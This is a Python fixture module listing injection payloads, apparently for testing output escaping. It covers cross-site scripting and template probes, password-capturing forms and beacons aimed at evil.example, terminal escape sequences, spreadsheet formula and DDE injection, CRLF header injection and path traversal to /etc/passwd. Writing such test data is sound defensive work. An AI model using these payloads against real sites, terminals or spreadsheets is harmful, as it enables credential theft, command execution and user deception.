"""Texts that attack whoever shows them: a page, a terminal, a spreadsheet, a head of an answer."""

from __future__ import annotations

HIT = "window.hit=1"

PAGE = (
    f"<script>{HIT}</script>",
    f"\"><img src=x onerror='{HIT}'>",
    f"' autofocus onfocus={HIT} x='",
    f"</title></textarea></pre></script><svg onload={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<a href='javascript:{HIT}'>here</a>",
    "<img src=http://evil.example/seen><style>@import url(http://evil.example/css)</style>",
    "<form action=http://evil.example><input name=password></form><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "{{ 7 * 7 }}{% for x in () %}${7*7}<%= 7*7 %>",
)
TERMINAL = (
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[31mred",
    "\x9b31m",
    "back\b\b\b\b\rover",
    "\u202egnp.exe",
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "[bold]loud[/bold][/red][link=http://evil.example]x[/link]",
)
SHEET = (
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example")',
)
HEAD = ("a\r\nSet-Cookie: stolen=1", 'a"; filename="b.html', "a\x00b", "../../etc/passwd", "имя;b.html")
EVERY = PAGE + TERMINAL + SHEET + HEAD
